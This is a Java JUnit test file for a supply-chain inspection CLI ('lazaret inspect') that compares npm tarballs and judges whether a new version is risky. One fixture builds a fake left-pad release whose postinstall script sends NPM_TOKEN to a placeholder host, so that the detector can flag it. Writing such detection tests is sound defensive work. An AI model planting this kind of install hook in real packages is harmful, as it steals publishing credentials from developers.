package dev.lazaret.proxy.cli;

import static org.assertj.core.api.Assertions.assertThat;

import dev.lazaret.proxy.testing.Tarball;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

/** {@code lazaret inspect}: offline inspection, comparison and judging of tarballs. */
class InspectCliTest {

  @TempDir
  Path tmp;

  private final StringWriter out = new StringWriter();
  private final StringWriter err = new StringWriter();

  private int run(String... args) {
    CommandLine cli = Cli.create(Map.of());
    cli.setOut(new PrintWriter(out, true));
    cli.setErr(new PrintWriter(err, true));
    return cli.execute(args);
  }

  private Path tgz(String name, Map<String, String> files) throws IOException {
    Map<String, byte[]> bytes = new java.util.TreeMap<>();
    files.forEach((path, text) -> bytes.put(path, text.getBytes(StandardCharsets.UTF_8)));
    return Files.write(tmp.resolve(name), Tarball.pack(bytes).bytes());
  }

  private static String manifest(String version, String scripts) {
    return "{\"name\":\"left-pad\",\"version\":\"" + version + "\",\"scripts\":{" + scripts + "}}";
  }

  private static final String FACTS = """
      {"package": "left-pad", "created": "-900d", "judged": "1.3.1", "previous": "1.3.0",
       "versions": [
         {"version": "1.3.0", "published": "-300d", "publisher": "stevemao", "maintainers": ["stevemao"]},
         {"version": "1.3.1", "published": "-2h", "publisher": "stevemao", "maintainers": ["stevemao"]}],
       "publishers": {"stevemao": {"firstSeen": "-3000d", "packages": 40}}}""";

  @Test
  void printsWhatChangedTheFindingsAndTheVerdict() throws IOException {
    Path old = tgz("old.tgz", Map.of("package.json", manifest("1.3.0", ""),
        "index.js", "module.exports = (s, n) => s.padStart(n);\n"));
    Path now = tgz("new.tgz", Map.of("package.json",
        manifest("1.3.1", "\"postinstall\":\"node setup.js\""),
        "index.js", "module.exports = (s, n) => s.padStart(n);\n",
        "setup.js", "require('https').get('https://x.example.invalid/' + process.env.NPM_TOKEN);\n"));
    Path facts = Files.writeString(tmp.resolve("facts.json"), FACTS);

    assertThat(run("inspect", "--previous", old.toString(), "--facts", facts.toString(),
        "--at", "2025-06-01T12:00:00Z", now.toString())).isZero();

    String text = out.toString();
    assertThat(text).contains("package: left-pad@1.3.1 from new.tgz, 3 files")
        .contains("previous: left-pad@1.3.0 from old.tgz")
        .contains("inspection: complete")
        .contains("install scripts: postinstall = node setup.js (previous: none)")
        .contains("  added setup.js (")
        .contains("runs at install")
        .containsPattern("(?m)^signals fired: .*INSTALL_SCRIPTS")
        .containsPattern("(?m)^verdict: (risky|held) \\(as of 2025-06-01T12:00:00Z\\)$")
        .containsPattern("(?m)^reason: ");
    assertThat(err.toString()).isEmpty();
  }

  @Test
  void aMalformedTarballIsAResultNotAnError() throws IOException {
    Path bad = Files.write(tmp.resolve("bad.tgz"), "not gzip at all".getBytes(StandardCharsets.UTF_8));

    assertThat(run("inspect", bad.toString())).isZero();

    assertThat(out.toString()).contains("inspection: failed: not a gzip archive")
        .contains("verdict: not judged (no --facts)");
  }

  @Test
  void refusesAFactsFileThatIsNotJsonAndAMissingTarball() throws IOException {
    Path now = tgz("new.tgz", Map.of("package.json", manifest("1.3.1", "")));
    Path facts = Files.writeString(tmp.resolve("facts.json"), "{\"package\": \"left-pad\"}");

    assertThat(run("inspect", "--facts", facts.toString(), now.toString()))
        .isEqualTo(InspectCommand.EXIT_BAD_FACTS);
    assertThat(err.toString()).contains("missing string field 'judged'");
    assertThat(run("inspect", tmp.resolve("absent.tgz").toString()))
        .isEqualTo(InspectCommand.EXIT_UNREADABLE);
  }

  @Test
  void anOffsetTooLongToBeATimeIsAClearErrorNotAnOverflow() throws IOException {
    Path now = tgz("new.tgz", Map.of("package.json", manifest("1.3.1", "")));
    Path facts = Files.writeString(tmp.resolve("facts.json"),
        FACTS.replace("\"-900d\"", "\"-99999999999999999999d\""));

    assertThat(run("inspect", "--facts", facts.toString(), now.toString()))
        .isEqualTo(InspectCommand.EXIT_BAD_FACTS);
    assertThat(err.toString()).contains("'-99999999999999999999d' is neither an ISO instant"
        + " nor an offset");
  }

  @Test
  void aFactsFileLargerThanOnePackageNeedsIsRefusedUnread() throws IOException {
    Path now = tgz("new.tgz", Map.of("package.json", manifest("1.3.1", "")));
    Path facts = tmp.resolve("facts.json");
    try (var ch = java.nio.channels.FileChannel.open(facts,
        java.nio.file.StandardOpenOption.CREATE_NEW, java.nio.file.StandardOpenOption.WRITE)) {
      ch.write(java.nio.ByteBuffer.wrap(new byte[] {'{'}), (17L << 20)); // sparse, 17 MiB
    }

    assertThat(run("inspect", "--facts", facts.toString(), now.toString()))
        .isEqualTo(InspectCommand.EXIT_BAD_FACTS);
    assertThat(err.toString()).contains("larger than 16 MiB");
  }
}
